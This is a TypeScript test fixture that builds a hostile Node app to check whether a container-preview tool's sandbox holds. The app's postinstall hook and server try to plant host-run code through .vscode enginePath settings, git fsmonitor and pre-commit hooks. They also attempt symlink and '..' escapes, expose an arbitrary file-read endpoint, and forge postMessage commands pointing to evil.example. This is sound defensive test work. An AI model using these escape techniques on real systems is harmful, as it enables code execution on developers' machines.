import { promises as fs } from 'node:fs';
import * as path from 'node:path';

/**
 * An app written by an attacker: its install step (a dependency's postinstall) and its server try
 * every way out of the container we know of, and report what each attempt did. It runs for real
 * inside the container (npm install of a `file:` dependency: no registry needed), so a test can
 * tell an attack that was stopped from one that never ran.
 */

/** Files a successful attack would create on the host, by vector (the test checks none exists). */
export const MARKERS = {
  enginePath: 'PWNED-engine-path',
  fsmonitor: 'PWNED-git-fsmonitor',
  preCommit: 'PWNED-git-pre-commit',
  planted: 'PWNED-planted-engine-path',
} as const;

export interface Attempt {
  readonly phase: string;
  readonly what: string;
  readonly path: string;
  readonly ok: boolean;
  readonly error?: string;
  readonly read?: string;
}

/**
 * The attack, run with node inside the container (`node attack.js <phase>`). It finds the host
 * path of the mounted folder in /proc/self/mountinfo, as a real attacker would, and aims there.
 */
const ATTACK = String.raw`
const fs = require('fs');
const path = require('path');
const phase = process.argv[2] || 'unknown';
const log = '/tmp/attempts.jsonl';
const markers = ${JSON.stringify(MARKERS)};
function record(what, target, fn) {
  const entry = { phase, what, path: target, ok: false };
  try { const r = fn(); entry.ok = true; if (typeof r === 'string') entry.read = r.slice(0, 200); }
  catch (e) { entry.error = e.code || e.message; }
  fs.appendFileSync(log, JSON.stringify(entry) + '\n');
}
// Where the folder comes from on the host: the root field of the mount of the app's folder.
let hostFolder = '/unknown';
for (const line of fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
  const f = line.split(' ');
  if (f[4] === '/preview-source' || (f[4] === '/app' && hostFolder === '/unknown')) hostFolder = f[3];
}
// Markers go next to the script: wherever it would run, the test finds them in the folder.
const script = (marker) => '#!/bin/sh\necho pwned > "$(dirname "$0")/' + marker + '"\nexit 0\n';
const settings = JSON.stringify({ 'previewContainers.enginePath': path.join(hostFolder, 'x') });
// One level at a time, so a read-only folder answers EROFS (not a recursive mkdir's ENOENT).
const mkdir = (dir) => { if (!fs.existsSync(dir)) fs.mkdirSync(dir); };
for (const base of ['/preview-source', '/app']) {
  record('drop an engine script', base + '/x', () => { fs.writeFileSync(base + '/x', script(markers.enginePath), { mode: 0o755 }); });
  record('write .vscode/settings.json (enginePath)', base + '/.vscode/settings.json', () => {
    mkdir(base + '/.vscode');
    fs.writeFileSync(base + '/.vscode/settings.json', settings);
  });
  record('set core.fsmonitor in .git/config', base + '/.git/config', () => {
    mkdir(base + '/.git');
    fs.appendFileSync(base + '/.git/config', '\n[core]\n\tfsmonitor = ' + path.join(hostFolder, 'fsmonitor.sh') + '\n');
    fs.writeFileSync(base + '/fsmonitor.sh', script(markers.fsmonitor), { mode: 0o755 });
  });
  record('write .git/hooks/pre-commit', base + '/.git/hooks/pre-commit', () => {
    mkdir(base + '/.git');
    mkdir(base + '/.git/hooks');
    fs.writeFileSync(base + '/.git/hooks/pre-commit', script(markers.preCommit), { mode: 0o755 });
  });
  record('write package.json', base + '/package.json', () => { fs.appendFileSync(base + '/package.json', ' '); });
  record('escape with ..', base + '/../escape.txt', () => { fs.writeFileSync(base + '/../escape.txt', 'escaped'); });
  record('write through a symlink out of the folder', base + '/link-out/escape.txt', () => { fs.writeFileSync(base + '/link-out/escape.txt', 'escaped'); });
  record('read through a symlink out of the folder', base + '/link-out/outside/secret.txt', () => fs.readFileSync(base + '/link-out/outside/secret.txt', 'utf8'));
}
`;

const SERVER = String.raw`
const fs = require('fs');
const http = require('http');
require('child_process').execFileSync(process.execPath, ['attack.js', 'server'], { stdio: 'inherit' });
const page = '<!doctype html><html><body><h1>hostile</h1><p id="status">forging</p><script src="/forge.js"></script></body></html>';
// The page forges what the preview page and the extension would take for their own messages.
const forge = 'let n = 0; const forged = [' +
  "{ type: 'status', status: 'failed', stage: '', error: 'forged by the app' }," +
  "{ type: 'frameUrl', url: 'http://evil.example/' }," +
  "{ type: 'openExternal' }," +
  "{ command: 'onmessage', data: { type: 'frameUrl', url: 'http://evil.example/' } }," +
  "{ command: 'onmessage', data: { type: 'status', status: 'failed' } }];" +
  'setInterval(() => { for (const target of new Set([window.parent, window.parent.parent, window.top])) { for (const m of forged) { try { target.postMessage(m, "*"); n++; } catch (e) {} } } document.getElementById("status").textContent = "forged " + n; }, 100);';
http.createServer((req, res) => {
  const url = new URL(req.url, 'http://x');
  if (url.pathname === '/attempts') {
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify(fs.readFileSync('/tmp/attempts.jsonl', 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l))));
  } else if (url.pathname === '/read') {
    const target = url.searchParams.get('path');
    try { res.end(JSON.stringify({ ok: true, read: fs.readFileSync(target, 'utf8') })); } catch (e) { res.end(JSON.stringify({ ok: false, error: e.code || e.message })); }
  } else if (url.pathname === '/forge.js') {
    res.setHeader('content-type', 'text/javascript');
    res.end(forge);
  } else {
    res.setHeader('content-type', 'text/html');
    res.end(page);
  }
}).listen(Number(process.env.PORT || 3000), '0.0.0.0');
`;

/**
 * Writes the hostile app into `folder` (the workspace root, or a sub-folder): package.json with a
 * `file:` dependency (under vendor/, which discovery skips) whose postinstall runs the attack,
 * the server (runs it again, then serves /attempts, /read?path=… and a page that forges messages),
 * and `link-out`, a symlink from inside the folder to its parent.
 */
export async function writeHostileApp(folder: string, name = 'hostile'): Promise<void> {
  await fs.mkdir(path.join(folder, 'vendor', 'evil-dep'), { recursive: true });
  await fs.writeFile(path.join(folder, 'package.json'), JSON.stringify({ name, private: true, scripts: { start: 'node server.js' }, dependencies: { 'evil-dep': 'file:./vendor/evil-dep' } }, null, 2));
  await fs.writeFile(path.join(folder, 'vendor', 'evil-dep', 'package.json'), JSON.stringify({ name: 'evil-dep', version: '1.0.0', scripts: { postinstall: 'node "$INIT_CWD/attack.js" postinstall' } }, null, 2));
  await fs.writeFile(path.join(folder, 'attack.js'), ATTACK);
  await fs.writeFile(path.join(folder, 'server.js'), SERVER);
  await fs.symlink('..', path.join(folder, 'link-out'));
}

/** What the app reports it tried (postinstall and server), from inside its container. */
export async function attemptsOf(port: number): Promise<Attempt[]> {
  const response = await fetch(`http://127.0.0.1:${port}/attempts`, { signal: AbortSignal.timeout(5000) });
  return (await response.json()) as Attempt[];
}

/** Asks the app to read a file, from inside its container. */
export async function readFromInside(port: number, file: string): Promise<{ ok: boolean; read?: string; error?: string }> {
  const response = await fetch(`http://127.0.0.1:${port}/read?path=${encodeURIComponent(file)}`, { signal: AbortSignal.timeout(5000) });
  return (await response.json()) as { ok: boolean; read?: string; error?: string };
}
